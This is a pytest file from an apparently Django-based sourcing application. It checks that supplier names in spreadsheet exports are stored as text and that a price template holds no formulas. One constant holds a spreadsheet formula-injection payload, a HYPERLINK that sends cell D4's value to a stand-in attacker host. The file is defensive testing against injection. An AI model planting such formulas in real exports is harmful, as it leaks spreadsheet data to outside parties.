"""A scenario's workbook and the market-price template: a supplier name a spreadsheet would run stays text."""

import io

import pytest
from openpyxl import load_workbook

from pegasus.core.roles import Role
from pegasus.estate import services as estate_services
from pegasus.sourcing.demo import SIAM_PLUS_TOWERS, sourcing_demo_load
from pegasus.sourcing.imports import template_xlsx
from pegasus.sourcing.models import Scenario

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://attacker.example/?d="&D4,"Open")'


class TestScenarioWorkbook:
    def test_supplier_names_are_stored_as_text(self, demo, signed_in):
        # given: a supplier of a lot renamed, through the estate's service, to a formula
        sourcing_demo_load(optimise=False)
        client, user = signed_in(Role.COMMERCIAL_OFFICER)
        scenario = Scenario.objects.get(name=SIAM_PLUS_TOWERS)
        supplier = scenario.lots.first().supplier
        estate_services.supplier_update(supplier=supplier, name=HOSTILE_NAME, by=user)
        # when
        book = load_workbook(io.BytesIO(client.get(f"/scenarios/{scenario.pk}/export.xlsx").content))
        # then
        names = [row[2] for row in book["Lots"].iter_rows(min_row=4) if row[2].value == HOSTILE_NAME]
        assert names and {c.data_type for c in names} == {"s"}
        assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_the_market_price_template_holds_no_formula():
    book = load_workbook(io.BytesIO(template_xlsx()))
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
